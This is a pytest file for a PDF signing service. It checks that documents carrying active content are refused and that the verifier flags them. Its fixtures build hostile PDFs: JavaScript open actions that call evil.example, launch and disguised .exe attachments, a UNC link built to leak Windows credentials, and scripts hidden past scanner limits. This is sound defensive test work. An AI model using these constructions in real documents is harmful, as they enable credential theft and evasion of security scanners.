"""Active content on the signing path (red team 19b, R19B-2).

A document that runs or opens something when viewed (a JavaScript open action, document
scripts, page or annotation actions, a program to launch, embedded files, multimedia, an XFA
form) is refused before signing with ``ACTIVE_PDF_CONTENT`` (the code the attachments'
screening gives), nothing stored; the verifier names it in a warning. Each kind is built here
with pikepdf on the same decision; harmless actions (a web link, a jump to a page) and data
attachments (an XML invoice) sign.
"""

from __future__ import annotations

import io
from collections.abc import Callable
from typing import Any

import pikepdf
import pytest

from signing_service.pki.dev import DevPki
from signing_service.services.conclusion import ACTIVE_CONTENT_NOTE
from signing_service.services.container import Services
from signing_service.verification.active import active_content, describe
from tests.support.pdfs import make_pdf
from tests.support.state import assert_nothing_written, snapshot
from tests.test_existing_signatures import auth, signed_locally, verify

JS = "app.alert('Van ban nay da het hieu luc'); app.launchURL('http://evil.example/');"


def _js(pdf: pikepdf.Pdf) -> pikepdf.Dictionary:
    return pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=JS))


def _open_action(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = _js(pdf)


def _chained_open_action(pdf: pikepdf.Pdf) -> None:
    # A harmless first action whose /Next runs the script.
    page = pdf.pages[0].obj
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.GoTo, D=pikepdf.Array([page, pikepdf.Name.Fit]), Next=_js(pdf)
    )


def _document_scripts(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("mo"), _js(pdf)]))
    )


def _page_action(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=_js(pdf))


def _annotation(pdf: pikepdf.Pdf, **entries: Any) -> None:
    annot = pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=[10, 10, 60, 30], **entries)
    )
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([annot]))


def _launch_link(pdf: pikepdf.Pdf) -> None:
    _annotation(
        pdf,
        Subtype=pikepdf.Name.Link,
        A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("huong-dan.exe")),
    )


def _file_attachment(pdf: pikepdf.Pdf) -> None:
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", filename="huong-dan.exe")
    _annotation(pdf, Subtype=pikepdf.Name.FileAttachment, FS=spec.obj)


def _embedded_files(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["huong-dan.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00")


def _outline_script(pdf: pikepdf.Pdf) -> None:
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Mở", action=_js(pdf)))


def _xfa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array(), XFA=pdf.make_stream(b"<xdp:xdp/>")
    )


def _open_web_address(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.URI, URI=pikepdf.String("https://evil.example/dang-nhap")
    )


def _network_share_link(pdf: pikepdf.Pdf) -> None:
    # A remote go-to to a UNC path: opening it sends the reader's Windows credentials.
    _annotation(
        pdf,
        Subtype=pikepdf.Name.Link,
        A=pikepdf.Dictionary(
            S=pikepdf.Name.GoToR,
            F=pikepdf.String("\\\\evil.example\\share\\a.pdf"),
            D=pikepdf.Array([0, pikepdf.Name.Fit]),
        ),
    )


def _field_script(pdf: pikepdf.Pdf) -> None:
    # Red team 20 R20-2 a: a calculation script on the form field itself (the widget's
    # /Parent), not on the widget a page lists.
    field = pdf.make_indirect(
        pikepdf.Dictionary(
            FT=pikepdf.Name.Tx, T=pikepdf.String("so_tien"), AA=pikepdf.Dictionary(C=_js(pdf))
        )
    )
    widget = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Widget,
            Rect=[10, 10, 60, 30],
            Parent=field,
        )
    )
    field.Kids = pikepdf.Array([widget])
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([widget]))
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))


def _rendition_script(pdf: pikepdf.Pdf) -> None:
    # R20-2 b: a /Rendition action carries JavaScript in /JS.
    _annotation(
        pdf, Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(S=pikepdf.Name.Rendition, JS=JS)
    )


def _three_d_script(pdf: pikepdf.Pdf) -> None:
    # R20-2 d: a 3D annotation whose stream runs a script when instantiated.
    stream = pdf.make_stream(b"", Type=pikepdf.Name("/3D"), Subtype=pikepdf.Name.U3D)
    stream.OnInstantiate = pdf.make_stream(JS.encode())
    _annotation(pdf, Subtype=pikepdf.Name("/3D"), **{"3DD": stream})


def _long_chain(pdf: pikepdf.Pdf) -> None:
    # R20-2 c: the script after 150 harmless actions.
    action = _js(pdf)
    for _ in range(150):
        action = pdf.make_indirect(
            pikepdf.Dictionary(
                S=pikepdf.Name.GoTo,
                D=pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit]),
                Next=action,
            )
        )
    pdf.Root.OpenAction = action


def _javascript_address(pdf: pikepdf.Pdf) -> None:
    # R20-2 f: a link whose web address is a script.
    _annotation(
        pdf,
        Subtype=pikepdf.Name.Link,
        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("  JavaScript:app.alert(1)")),
    )


def _looping_page_tree(pdf: pikepdf.Pdf) -> None:
    # R20-1: /Kids ending with the /Pages node itself: qpdf refuses the file, pyHanko and
    # poppler read it; the script must not pass because the scanner could not open it.
    _open_action(pdf)
    pdf.Root.Pages.Kids.append(pdf.Root.Pages)


def _xml_invoice(pdf: pikepdf.Pdf) -> None:
    # Red team 20 R20-4: a PDF/A-3 / e-invoice shape, data attached, nothing that runs.
    pdf.attachments["hoa-don.xml"] = pikepdf.AttachedFileSpec(
        pdf, b"<?xml version='1.0'?><HDon/>", mime_type="text/xml"
    )


def _disguised_program(pdf: pikepdf.Pdf) -> None:
    # One name says .xml, another .exe: the viewer may use either.
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", filename="hoa-don.xml")
    spec.obj.F = pikepdf.String("hoa-don.exe")
    pdf.attachments["hoa-don.xml"] = spec


def _web_link(pdf: pikepdf.Pdf) -> None:
    _annotation(
        pdf,
        Subtype=pikepdf.Name.Link,
        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://dichvucong.gov.vn")),
    )


def _jump_on_open(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])


def build(change: Callable[[pikepdf.Pdf], None], *, compress: bool = False) -> bytes:
    pdf = pikepdf.open(io.BytesIO(make_pdf()))
    change(pdf)
    out = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if compress else pikepdf.ObjectStreamMode.preserve
    pdf.save(out, object_stream_mode=mode)
    return out.getvalue()


ACTIVE = {
    "open-action": (_open_action, {"JavaScript", "OpenAction"}),
    "chained-open-action": (_chained_open_action, {"JavaScript", "OpenAction"}),
    "document-scripts": (_document_scripts, {"JavaScript"}),
    "page-action": (_page_action, {"AA", "JavaScript"}),
    "launch-link": (_launch_link, {"Launch"}),
    "file-attachment": (_file_attachment, {"EmbeddedFile"}),
    "embedded-files": (_embedded_files, {"EmbeddedFile"}),
    "outline-script": (_outline_script, {"JavaScript"}),
    "xfa": (_xfa, {"XFA"}),
    "open-web-address": (_open_web_address, {"URI", "OpenAction"}),
    "network-share-link": (_network_share_link, {"GoToR"}),
    "field-script": (_field_script, {"AA", "JavaScript"}),
    "rendition-script": (_rendition_script, {"JavaScript"}),
    "3d-script": (_three_d_script, {"JavaScript", "RichMedia"}),
    "long-chain": (_long_chain, {"JavaScript", "OpenAction", "TooComplexToInspect"}),
    "javascript-address": (_javascript_address, {"JavaScript"}),
    "looping-page-tree": (_looping_page_tree, {"Uninspectable"}),
    "disguised-program": (_disguised_program, {"EmbeddedFile"}),
}


def _font_with(pdf: pikepdf.Pdf, key: str, widths: pikepdf.Array) -> None:
    font = pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.TrueType)
    font[key] = widths
    pdf.pages[0].obj.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F9=font))


def _script_in_widths(pdf: pikepdf.Pdf) -> None:
    # A direct dictionary among a font's widths: the scan's shortcut for number arrays
    # (verification/active.py, _NUMBER_ARRAYS) must still walk into it.
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=JS)
    _font_with(pdf, "/Widths", pikepdf.Array([500, 600, script, 700]))


def _script_in_cid_widths(pdf: pikepdf.Pdf) -> None:
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=JS)
    _font_with(pdf, "/W", pikepdf.Array([0, pikepdf.Array([500, script]), 7, [600]]))


ACTIVE["script-in-widths"] = (_script_in_widths, {"JavaScript"})
ACTIVE["script-in-cid-widths"] = (_script_in_cid_widths, {"JavaScript"})


@pytest.mark.parametrize("compress", [False, True], ids=["plain", "object-streams"])
@pytest.mark.parametrize("kind", sorted(ACTIVE))
def test_each_kind_is_found(kind: str, compress: bool) -> None:
    change, expected = ACTIVE[kind]
    assert set(active_content(build(change, compress=compress))) == expected


@pytest.mark.parametrize(
    "change",
    [_web_link, _jump_on_open, _xml_invoice],
    ids=["web-link", "jump-on-open", "xml-invoice"],
)
def test_harmless_actions_are_not_active(change: Callable[[pikepdf.Pdf], None]) -> None:
    assert active_content(build(change)) == []


def _sign(api: Any, credentials: dict[str, Any], data: bytes, raw: bool = False) -> Any:
    if raw:
        return api.post(
            "/v1/signatures/raw",
            params={"profile": "agency-a-seal", "level": "B-B", "filename": "van-ban.pdf"},
            headers={**auth(credentials), "Content-Type": "application/pdf"},
            content=data,
        )
    return api.post(
        "/v1/signatures",
        headers=auth(credentials),
        data={"profile": "agency-a-seal", "level": "B-B"},
        files={"file": ("van-ban.pdf", data, "application/pdf")},
    )


@pytest.mark.parametrize("raw", [False, True], ids=["multipart", "raw"])
def test_signing_refuses_active_content_and_writes_nothing(
    api: Any, services: Services, credentials: dict[str, Any], raw: bool
) -> None:
    for kind in ("open-action", "launch-link", "embedded-files"):
        change, expected = ACTIVE[kind]
        before = snapshot(services)
        response = _sign(api, credentials, build(change), raw)
        assert response.status_code == 422, response.text
        body = response.json()
        assert body["code"] == "ACTIVE_PDF_CONTENT", body
        assert "nội dung chủ động" in body["message"]
        assert set(body["details"]["found"]) == expected
        # Named for people too (new user 20 #6: the kinds were English tokens only).
        assert body["details"]["found_text"] == describe(body["details"]["found"])
        assert "JavaScript" not in describe(["OpenAction", "EmbeddedFile", "Launch"])
        assert_nothing_written(before, services)
    # A web link and a jump to the first page are no reason to refuse.
    for change in (_web_link, _jump_on_open, _xml_invoice):
        response = _sign(api, credentials, build(change), raw)
        assert response.status_code == 201, response.text


def test_external_step_one_refuses_active_content(
    api: Any, services: Services, credentials: dict[str, Any]
) -> None:
    before = snapshot(services)
    response = api.post(
        "/v1/signatures/external",
        headers=auth(credentials),
        data={"profile": "agency-a-officer", "officer": "nguyen-van-an", "level": "B-B"},
        files={"file": ("van-ban.pdf", build(_page_action), "application/pdf")},
    )
    assert response.status_code == 422, response.text
    assert response.json()["code"] == "ACTIVE_PDF_CONTENT"
    assert_nothing_written(before, services)


def test_the_verifier_warns_and_countersigning_refuses(
    api: Any, services: Services, credentials: dict[str, Any], dev_pki: tuple[DevPki, int]
) -> None:
    """A document another system signed with a script in it: the report says so, and the
    agency's seal is not added."""
    signed = signed_locally(dev_pki[0], "spare-seal", build(_open_action))
    report = verify(api, signed)
    warning = next(w for w in report["warnings"] if w["code"] == "ACTIVE_CONTENT_PRESENT")
    assert "mã JavaScript" in warning["message"]
    assert "hành động tự chạy khi mở tệp" in warning["message"]
    # The one message a portal shows says it too, the state staying the signatures' (new
    # user 20 #1: "valid, not changed after signing" and nothing else).
    assert report["status"]["message"].endswith(ACTIVE_CONTENT_NOTE), report["status"]
    before = snapshot(services)
    response = _sign(api, credentials, signed)
    assert response.status_code == 422, response.text
    assert response.json()["code"] == "ACTIVE_PDF_CONTENT"
    assert_nothing_written(before, services)
    # An ordinary signed document carries no such warning.
    plain = verify(api, signed_locally(dev_pki[0], "spare-seal"))
    assert "ACTIVE_CONTENT_PRESENT" not in [w["code"] for w in plain["warnings"]]
    assert ACTIVE_CONTENT_NOTE not in plain["status"]["message"]


def test_a_file_qpdf_cannot_read_is_refused_as_malformed(
    api: Any, services: Services, credentials: dict[str, Any]
) -> None:
    """Red team 20 R20-1: pyHanko reads a looping page tree, qpdf does not: the scan for
    active content cannot run, and the file is refused (MALFORMED_PDF), never signed unseen."""
    data = build(_looping_page_tree)
    before = snapshot(services)
    response = _sign(api, credentials, data)
    assert response.status_code == 422, response.text
    assert response.json()["code"] == "MALFORMED_PDF"
    assert_nothing_written(before, services)
    report = verify(api, data)
    assert "ACTIVE_CONTENT_NOT_CHECKED" in [w["code"] for w in report["warnings"]]


def _deep_script(depth: int, where: str) -> bytes:
    """A one-page decision whose script object carries an array nested ``depth`` deep (red
    team 22 R22-1: past qpdf's parser limit of 500 the whole object reads as null, while
    poppler keeps the dictionary and runs the script)."""
    from tests.support.pdfs import raw_pdf

    pad = b"[" * depth + b"0" + b"]" * depth
    catalog = {
        "open-action": b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        "names": b"<< /Type /Catalog /Pages 2 0 R /Names 6 0 R >>",
    }[where]
    content = b"BT /F1 14 Tf 72 720 Td (Quyet dinh so 12/QD-UBND) Tj ET"
    return raw_pdf(
        [
            catalog,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
            b"<< /S /JavaScript /JS (app.alert\\(1\\);) /Pad " + pad + b" >>",
            b"<< /JavaScript << /Names [(a) 5 0 R] >> /Pad " + pad + b" >>",
        ]
    )


@pytest.mark.parametrize("where", ["open-action", "names"])
def test_a_script_nested_past_qpdf_s_limit_is_not_called_clean(where: str) -> None:
    """Under the limit the script is found; past it qpdf reads null and warns: the file is
    Uninspectable (refused on signing, ACTIVE_CONTENT_NOT_CHECKED in reports), never clean."""
    assert "JavaScript" in active_content(_deep_script(499, where))
    assert active_content(_deep_script(501, where)) == ["Uninspectable"]


def test_nested_width_arrays_cost_one_pass() -> None:
    """Width arrays nested in dictionaries nested in width arrays: each level's serialised
    form held every deeper level (red team 22 R22-2: 2 s for a 1 MB file 100 levels deep).
    Counted in serialisations, not time: a width array that held a dictionary is walked
    without the test below it."""
    from signing_service.verification import active
    from tests.support.pdfs import raw_pdf

    body = b"(" + b"A" * 1000 + b")"
    for _ in range(100):
        body = b"<< /W [ " + body + b" ] >>"
    data = raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
            b"<< /Type /Annot /Subtype /Text /Rect [0 0 1 1] /JS (x) /W [ " + body + b" ] >>",
        ]
    )
    calls = 0
    original = pikepdf.Object.unparse

    def counting(self: pikepdf.Object, *args: Any, **kwargs: Any) -> bytes:
        nonlocal calls
        calls += 1
        return original(self, *args, **kwargs)

    pikepdf.Object.unparse = counting  # type: ignore[method-assign]
    try:
        assert active.active_content(data) == ["JavaScript"]
    finally:
        pikepdf.Object.unparse = original  # type: ignore[method-assign]
    assert 0 < calls < 20, calls  # the top-level objects and the outermost /W: not one per level
